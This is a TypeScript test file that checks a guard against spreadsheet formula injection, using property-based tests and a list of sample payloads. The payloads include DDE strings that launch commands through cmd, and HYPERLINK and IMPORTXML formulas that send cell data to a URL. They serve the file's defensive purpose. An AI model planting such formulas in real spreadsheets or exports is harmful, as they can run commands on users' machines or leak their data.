import fc from 'fast-check'
import { expect, test } from 'vitest'
import { guardCell, unguardCell } from '#contract/cells.ts'

/** Characters that no cell may begin with (OWASP ASVS 1.2.10, and their full-width twins). */
const signs = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠']

const payloads = [
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("https://example.org?x="&A1,"看看")',
  "cmd|' /C calc'!A0",
  'IMPORTXML(CONCAT("https://example.org/",A1),"//a")',
  'DDE("cmd";"/C calc";"__DdeLink_60_870516294__")',
  '5000',
  '',
  ' 空格',
  '‮倒写',
  '👩‍🌾',
  '𠮷野家',
  '"引号"',
  'a,b;c',
]

test.each(signs)('a text that begins with %j is marked as text, whatever follows', (sign) => {
  expect(payloads.map((payload) => guardCell(sign + payload))).toEqual(payloads.map((payload) => `'${sign}${payload}`))
})

test('any other text stays as it is', () => {
  const plain = ['', '川芎', ' =1+1', "'=1", '3-5 cm', 'a=b', '１２', '“=”', '\u000b=1']
  expect(plain.map(guardCell)).toEqual(plain)
})

test('no guarded text can be executed, and unguarding restores the original text', () => {
  const text = fc.tuple(fc.constantFrom('', ...signs), fc.string({ unit: 'grapheme' })).map(([a, b]) => a + b)
  fc.assert(
    fc.property(text, (given) => {
      const guarded = guardCell(given)
      expect(signs.some((sign) => guarded.startsWith(sign))).toBe(false)
      if (guarded !== given) expect(unguardCell(guarded)).toBe(given)
    }),
    { numRuns: 2_000 },
  )
})
